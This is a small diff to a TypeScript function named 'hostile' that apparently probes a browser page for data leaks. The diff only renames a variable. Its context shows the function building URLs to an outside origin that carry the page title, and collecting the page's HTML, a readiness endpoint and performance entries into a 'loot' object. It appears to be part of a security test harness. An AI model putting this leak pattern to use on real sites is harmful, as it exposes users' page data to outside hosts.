@@ -41,7 +41,7 @@ async function hostile(elsewhere: string) {
       setTimeout(failed, 2000);
     });
   const to = (name: string) => `${elsewhere}/${name}?${encodeURIComponent(document.title)}`;
-  const own = await (await fetch("/")).text();
+  const home = await (await fetch("/")).text();
   const ready = await (await fetch("/readyz")).text();
   const blob = (code: string) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
   await Promise.all([
@@ -94,7 +94,7 @@ async function hostile(elsewhere: string) {
     }),
   ]);
   const page =
-    own + ready + document.documentElement.outerHTML + JSON.stringify(performance.getEntries());
+    home + ready + document.documentElement.outerHTML + JSON.stringify(performance.getEntries());
   window.loot = { found: found.flat().filter(Boolean), blocked: blocked.sort(), page };
 }
 
